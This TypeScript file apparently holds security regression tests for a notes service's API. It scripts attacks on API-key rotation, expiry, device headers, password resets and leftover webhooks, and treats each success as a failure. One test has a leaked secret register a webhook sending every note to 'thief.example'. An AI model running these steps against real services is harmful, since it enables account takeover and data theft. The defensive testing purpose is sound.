import { setTimeout as sleep } from "node:timers/promises"
import { attack } from "./Attack.ts"
import type { Reply, Client } from "./Client.ts"
import type { Lab } from "./Lab.ts"
import { PASSWORD, type Workspace } from "../bench/Target.ts"

const makeKey = (client: Client, more: object = {}): Promise<{ id: string; secret: string }> =>
  client.need(201, "POST", "/v2/api-keys", { body: { name: "key", ...more } })

const secretOf = ({ text }: Reply): string | undefined => JSON.parse(text).secret

/** Makes a user a member of another user's workspace. */
export const join = async (lab: Lab, owner: Workspace, member: Workspace, role: string): Promise<void> => {
  const { accept_url } = await lab
    .client(owner.token)
    .need(201, "POST", `/v2/workspaces/${owner.workspace_id}/invitations`, {
      body: { email: member.email, role }
    })
  const token = new URL(accept_url).searchParams.get("token")
  await lab.client(member.token).need(200, "POST", "/v2/invitations/accept", { body: { token } })
}

/** A user who may end a key must not be able to act as its owner. */
export const keysOfOthers = attack({
  name: "keys-of-others",
  finding: "an admin or owner who rotated a member's key had a secret that acts as that member",
  measured: false,
  prepare: async (lab) => {
    const [owner, admin, editor] = [lab.server.takeAttacker(), lab.server.takeAttacker(), lab.server.takeAttacker()]
    await join(lab, owner, admin, "admin")
    await join(lab, owner, editor, "editor")
    const headers = { "workspace-id": owner.workspace_id }
    const key = await lab
      .client(editor.token)
      .need(201, "POST", "/v2/api-keys", { body: { name: "editor's" }, headers })
    return { owner, admin, key: key.id, headers }
  },
  run: async (lab, { admin, headers, key, owner }) => [
    await lab.client(admin.token).post(`/v2/api-keys/${key}/rotate`, undefined, { headers }),
    await lab.client(owner.token).post(`/v2/api-keys/${key}/rotate`, undefined, { headers })
  ],
  judge: (replies) => ({
    figures: `admin ${replies[0]!.status}, owner ${replies[1]!.status}`,
    failures: replies.some((reply) => reply.status !== 403) ? ["another user's key was rotated"] : []
  })
})

/** A secret was rotated because it leaked; the thief can use it for the rest of its day. */
export const rotatedKeys = attack({
  name: "keys-rotated",
  finding: "a rotated secret made a new, permanent secret and invalidated the owner's",
  measured: false,
  run: async (lab) => {
    const owner = lab.client(lab.server.takeAttacker().token)
    const leaked = await makeKey(owner)
    const fresh = await owner.need(200, "POST", `/v2/api-keys/${leaked.id}/rotate`)
    const thief = lab.client(leaked.secret)
    const rotated = await thief.post(`/v2/api-keys/${leaked.id}/rotate`, undefined)
    // A second rotation ends the oldest secret, which is the owner's.
    const taken = rotated.status === 200 ? secretOf(rotated) : undefined
    if (taken !== undefined) await lab.client(taken).post(`/v2/api-keys/${leaked.id}/rotate`, undefined)
    const created = await thief.post("/v2/api-keys", { name: "lasting" })
    const lasting = created.status === 201 && JSON.parse(created.text).expires_at === null
    const kept = await lab.client(fresh.secret).get("/v2/notebooks")
    return { rotated, created, lasting, kept }
  },
  judge: ({ created, kept, lasting, rotated }) => ({
    figures: `rotate ${rotated.status}, create ${created.status}, the owner's ${kept.status}`,
    failures: [
      ...(rotated.status === 403 ? [] : ["the old secret rotated its key"]),
      ...(lasting ? ["the old secret made a permanent key"] : []),
      ...(kept.status === 200 ? [] : ["the owner's secret is invalid"])
    ]
  })
})

/** A key with an expiry date, of the same user and scopes as a key without one. */
export const expiringKeys = attack({
  name: "keys-expiring",
  finding: "a key with an expiry date rotated a key without one, and so never expired",
  measured: false,
  run: async (lab) => {
    const owner = lab.client(lab.server.takeAttacker().token)
    const lasting = await makeKey(owner)
    const ends = Date.now() + 1500
    const ending = await makeKey(owner, { expires_at: new Date(ends).toISOString() })
    const rotated = await lab.client(ending.secret).post(`/v2/api-keys/${lasting.id}/rotate`, undefined)
    const taken = rotated.status === 200 ? secretOf(rotated) : undefined
    await sleep(ends + 200 - Date.now())
    const ended = await lab.client(ending.secret).get("/v2/notebooks")
    const after = taken === undefined ? undefined : await lab.client(taken).get("/v2/notebooks")
    return { rotated, ended, after }
  },
  judge: ({ after, ended, rotated }) => ({
    figures: `rotate ${rotated.status}, after its expiry ${ended.status}, the secret that it took ${after?.status ?? "none"}`,
    failures: [
      ...(rotated.status === 403 ? [] : ["it rotated a key that outlives it"]),
      ...(ended.status === 401 ? [] : ["it did not expire"]),
      ...(after?.status === 200 ? ["the secret that it took outlives it"] : [])
    ]
  })
})

/** A key may name the device that it writes from, but not another user's device. */
export const foreignDevice = attack({
  name: "foreign-device",
  finding: "a key named another user's device, whose client then ignored the change as its own",
  measured: false,
  prepare: async (lab) => {
    const [owner, editor] = [lab.server.takeAttacker(), lab.server.takeAttacker()]
    await join(lab, owner, editor, "editor")
    const headers = { "workspace-id": owner.workspace_id }
    const { secret } = await lab
      .client(editor.token)
      .need(201, "POST", "/v2/api-keys", { body: { name: "editor's" }, headers })
    return { owner, secret }
  },
  run: async (lab, { owner, secret }) => {
    const mine = lab.client(owner.token)
    const { cursor, device_id } = await mine.need(201, "POST", "/v2/sync/pull", { body: { limit: 500 } })
    const written = await lab.client(secret).post(
      "/v2/notes",
      { notebook_id: owner.notebook_id, title: "not hers" },
      {
        headers: { "device-id": device_id }
      }
    )
    const { changes } = await mine.need(201, "POST", "/v2/sync/pull", { body: { cursor, limit: 500 } })
    const { id } = JSON.parse(written.text)
    const change = changes.find((it: { readonly id: string }) => it.id === id)
    return { written, named: change?.device_id === device_id && device_id !== null }
  },
  judge: ({ named, written }) => ({
    figures: `write ${written.status}, ${named ? "under the other's device" : "not under the other's device"}`,
    failures: named ? ["the change names the other's device"] : []
  })
})

/** Registering with an address does not prove it. */
export const keptKeys = attack({
  name: "keys-before-reset",
  finding: "a key that a stranger made with a user's address still worked after the user had reset the password",
  measured: false,
  seconds: 15,
  run: async (lab) => {
    const stranger = lab.client()
    const email = `victim-${Date.now()}@example.org`
    const { access_token } = await stranger.need(201, "POST", "/v2/auth/register", {
      body: { email, password: PASSWORD }
    })
    const { secret } = await makeKey(lab.client(access_token))
    const victim = lab.client()
    await victim.need(200, "POST", "/v2/auth/forgot", { body: { email } })
    const token = await lab.server.mailed(email, /sfp_[0-9A-Za-z]{36}/)
    await victim.need(200, "POST", "/v2/auth/reset", { body: { token, new_password: `${PASSWORD} again` } })
    return [await lab.client(access_token).get("/v2/me"), await lab.client(secret).get("/v2/notebooks")]
  },
  judge: ([session, key]) => ({
    figures: `the stranger's session ${session!.status}, key ${key!.status}`,
    failures: [session, key].some((reply) => reply!.status !== 401) ? ["the stranger still has access"] : []
  })
})

/** A thief can use a secret for a day after its owner has replaced it. */
export const replacedSecrets = attack({
  name: "keys-replaced",
  finding: "a replaced secret revoked its key, and made a webhook that kept receiving the texts of all notes",
  measured: false,
  run: async (lab) => {
    const { token, workspace_id } = lab.server.takeAttacker()
    const owner = lab.client(token)
    const leaked = await makeKey(owner)
    const other = await makeKey(owner)
    const fresh = await owner.need(200, "POST", `/v2/api-keys/${leaked.id}/rotate`)
    const thief = lab.client(leaked.secret)
    const tries = [
      await thief.post("/v2/webhooks", { url: "https://thief.example/", events: ["*"] }),
      await thief.post(`/v2/workspaces/${workspace_id}/invitations`, { email: "thief@thief.example", role: "admin" }),
      await thief.send("DELETE", `/v2/api-keys/${other.id}`),
      await thief.send("DELETE", `/v2/api-keys/${leaked.id}`)
    ]
    return { tries, kept: await lab.client(fresh.secret).get("/v2/notebooks"), reads: await thief.get("/v2/notebooks") }
  },
  judge: ({ kept, reads, tries: [hook, invitation, another, itself] }) => ({
    figures: `webhook ${hook!.status}, invitation ${invitation!.status}, ends another ${another!.status}, itself ${itself!.status}; owner ${kept.status}, thief reads ${reads.status}`,
    failures: [
      ...(hook!.status === 403 ? [] : ["it made a webhook"]),
      ...(invitation!.status === 403 ? [] : ["it invited a user"]),
      ...(another!.status === 403 && itself!.status === 403 ? [] : ["it ended a key"]),
      ...(kept.status === 200 ? [] : ["the owner's secret is invalid"])
    ]
  })
})

/** A removed admin's webhooks and shares must not stay active. */
export const leavers = attack({
  name: "leavers",
  finding: "a removed admin's webhook received all later changes of notes, and the admin's share displayed them",
  measured: false,
  run: async (lab) => {
    const [owner, admin] = [lab.server.takeAttacker(), lab.server.takeAttacker()]
    await join(lab, owner, admin, "admin")
    const headers = { "workspace-id": owner.workspace_id }
    const mine = lab.client(owner.token)
    const theirs = lab.client(admin.token)
    const { id: note_id } = await mine.need(201, "POST", "/v2/notes", {
      body: { notebook_id: owner.notebook_id, title: "inside" }
    })
    const hook = await theirs.need(201, "POST", "/v2/webhooks", {
      body: { url: "https://leaver.example/", events: ["*"] },
      headers
    })
    const { url } = await theirs.need(201, "POST", "/v2/shares", { body: { note_id }, headers })
    const members = await mine.need(200, "GET", `/v2/workspaces/${owner.workspace_id}/members`)
    const member = members.data.find(({ role }: { readonly role: string }) => role === "admin")
    await mine.need(200, "DELETE", `/v2/workspaces/${owner.workspace_id}/members/${member.id}`)
    const left = await mine.need(200, "GET", `/v2/webhooks/${hook.id}`)
    return { left, page: await lab.client().get(new URL(url).pathname) }
  },
  judge: ({ left, page }) => ({
    figures: `webhook ${left.active ? "active" : left.disabled_reason}, share ${page.status}`,
    failures: [...(left.active ? ["the webhook is active"] : []), ...(page.status === 200 ? ["the share is open"] : [])]
  })
})
